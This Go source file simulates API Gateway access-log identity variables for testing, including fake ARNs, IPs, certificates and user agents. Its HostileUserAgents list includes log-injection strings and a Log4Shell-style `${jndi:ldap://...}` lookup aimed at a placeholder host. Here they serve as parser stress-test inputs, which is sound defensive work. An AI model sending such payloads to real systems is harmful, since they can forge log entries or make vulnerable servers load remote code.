package awssim

import (
	"strconv"
	"strings"
)

// identityVariables say who asked.
var identityVariables = map[string]contextVariable{
	"identity.sourceIp":  {inAll, func(b []byte, c *logContext) []byte { return c.sourceIP(b) }},
	"identity.userAgent": {inAll, text((*logContext).userAgent)},
	"identity.accountId": {inAll, signed(func(b []byte, c *logContext) []byte { return append(b, c.info.account...) })},
	"identity.caller":    {inAll, signed(func(b []byte, c *logContext) []byte { return c.principal(b) })},
	"identity.user":      {inAll, signed(func(b []byte, c *logContext) []byte { return c.principal(b) })},
	"identity.userArn": {inAll, signed(func(b []byte, c *logContext) []byte {
		b = append(append(b, "arn:"...), partitionOf(c.info.region.Name)...)
		b = append(append(append(b, ":sts::"...), c.info.account...), ":assumed-role/shop-client/i-"...)
		return appendHex(b, c.draw(drawCaller), 17)
	})},
	"identity.principalOrgId":                {inAll, signed(func(b []byte, _ *logContext) []byte { return append(b, "o-a1b2c3d4e5"...) })},
	"identity.cognitoAuthenticationProvider": {inAll, pooled(`cognito-idp.us-east-1.amazonaws.com/us-east-1_Shop00001:CognitoSignIn:`)},
	"identity.cognitoAuthenticationType":     {inAll, pooled("authenticated")},
	"identity.cognitoIdentityId":             {inAll, pooled("us-east-1:5b1c2d3e-0000-4000-8000-00000000c0ff")},
	"identity.cognitoIdentityPoolId":         {inAll, pooled("us-east-1:11111111-2222-4333-8444-555555555555")},
	"identity.apiKey":                        {inREST | inWebSocket, keyed(func(k *APIKey) string { return k.value() })},
	"identity.apiKeyId":                      {inREST | inWebSocket, keyed(func(k *APIKey) string { return k.ID })},
	"identity.vpcId":                         {inREST, private("vpc-0f1e2d3c4b5a69788")},
	"identity.vpceId":                        {inREST, private("vpce-0a1b2c3d4e5f60718")},
	// Clients of domain names with mutual TLS.
	"identity.clientCert.clientCertPem": {inREST | inHTTP, certified(func(c *logContext) string {
		return "-----BEGIN CERTIFICATE-----\nMIIC" + string(appendHex(nil, c.draw(drawCaller), 16)) + "==\n-----END CERTIFICATE-----\n"
	})},
	"identity.clientCert.issuerDN":           {inREST | inHTTP, certified(func(*logContext) string { return `CN=Partners CA,O="Example, Inc.",C=US` })},
	"identity.clientCert.subjectDN":          {inREST | inHTTP, certified(func(*logContext) string { return "CN=partner.example.com,O=Partner \\, Söhne,C=DE" })},
	"identity.clientCert.validity.notAfter":  {inREST | inHTTP, certified(func(*logContext) string { return certificateValidity })},
	"identity.clientCert.validity.notBefore": {inREST | inHTTP, certified(func(*logContext) string { return certificateIssued })},
	"identity.clientCert.serialNumber": {inREST | inHTTP, certified(func(c *logContext) string {
		return strconv.FormatUint(c.draw(drawCaller), 10)
	})},
}

// signed is a value of requests that passed IAM's authentication.
func signed(write func([]byte, *logContext) []byte) func([]byte, *logContext) []byte {
	return func(b []byte, c *logContext) []byte {
		if c.route.auth != "AWS_IAM" || c.outcome.phase <= phaseAuthenticate {
			return b
		}
		return write(b, c)
	}
}

// pooled is a value of the quarter of those callers that have credentials of an identity pool.
func pooled(value string) func([]byte, *logContext) []byte {
	return signed(func(b []byte, c *logContext) []byte {
		if c.draw(drawCaller)>>60&3 != 0 {
			return b
		}
		return append(b, value...)
	})
}

// keyed is a value of the request's API key.
func keyed(value func(*APIKey) string) func([]byte, *logContext) []byte {
	return func(b []byte, c *logContext) []byte {
		if !c.route.apiKey || c.outcome.phase < phasePlan || c.outcome.responseType == "INVALID_API_KEY" {
			return b
		}
		return append(b, value(c.apiKey())...)
	}
}

func private(value string) func([]byte, *logContext) []byte {
	return func(b []byte, c *logContext) []byte {
		if c.info.api.EndpointType != "PRIVATE" {
			return b
		}
		return append(b, value...)
	}
}

func certified(value func(*logContext) string) func([]byte, *logContext) []byte {
	return func(b []byte, c *logContext) []byte {
		if c.domain == nil || !c.domain.mutualTLS {
			return b
		}
		return append(b, value(c)...)
	}
}

// principal is a role's session, as IAM names it.
func (c *logContext) principal(b []byte) []byte {
	b = append(b, "AROASIM"...)
	b = append(append(b, c.info.account...), ":i-"...)
	return appendHex(b, c.draw(drawCaller), 17)
}

// sourceIP is the client's: of a private network for private APIs, once in 16 an IPv6 address.
func (c *logContext) sourceIP(b []byte) []byte {
	n := c.draw(drawIP)
	if c.info.api.EndpointType == "PRIVATE" {
		n = n&0xffffff | 10<<24
	} else if n>>60 == 0 {
		b = append(b, "2001:db8"...)
		for i := range 3 {
			b = strconv.AppendUint(append(b, ':'), n>>(16*i)&0xffff, 16)
		}
		return append(b, "::1"...)
	} else {
		n = n&0xffffff | (20+n>>32%180)<<24
	}
	for i := 3; i >= 0; i-- {
		b = strconv.AppendUint(b, n>>(8*i)&0xff, 10)
		if i > 0 {
			b = append(b, '.')
		}
	}
	return b
}

// userAgent is one of the stage's; by default one that clients really send, or once in 16 one that makes log lines hard to read.
func (c *logContext) userAgent() string {
	n := c.draw(drawAgent)
	if own := c.info.stage.Traffic.UserAgents; len(own) > 0 {
		return own[n%uint64(len(own))]
	}
	if n>>60 != 0 {
		return usualAgents[n%uint64(len(usualAgents))]
	}
	if n>>56&15 == 0 {
		return longAgent
	}
	return HostileUserAgents[n%uint64(len(HostileUserAgents))]
}

var usualAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
	"curl/8.11.1", "okhttp/4.12.0", "python-requests/2.32.3", "Go-http-client/1.1", "PostmanRuntime/7.43.0",
	"aws-sdk-go-v2/1.36.0 ua/2.1 os/linux lang/go#1.24.1 md/GOOS#linux md/GOARCH#arm64", "Amazon CloudFront", "ELB-HealthChecker/2.0",
}

// HostileUserAgents are those that make log lines hard to read: API Gateway writes them verbatim. One of 8 KB comes beside them.
var HostileUserAgents = []string{
	`Mozilla/5.0 "quoted" (compatible)`, `evil","status":"200","x":"`, "one, two, three", `[brackets] ] " - [`, "-", "- -",
	"Mozilla/5.0 (Ünïcode; 日本語; 🦊)", `back\slash \" \n \u0041 \`, "</userAgent><status>500</status>", "tab\tbed\tagent", "%22%2C 'single' &amp; & <tag>",
	`]" 200 12 - "`, "two  blanks  and a dot .", `{"json": {"nested": [1, "two"]}}`, "$context.status ${jndi:ldap://example.com/a}", `""`, "]", "'", "HTTP/1.1", "404",
}

// longAgent is as long as a header can be.
var longAgent = strings.Repeat("Mozilla/5.0 (compatible; a very, very long agent) ", 163) + "end"
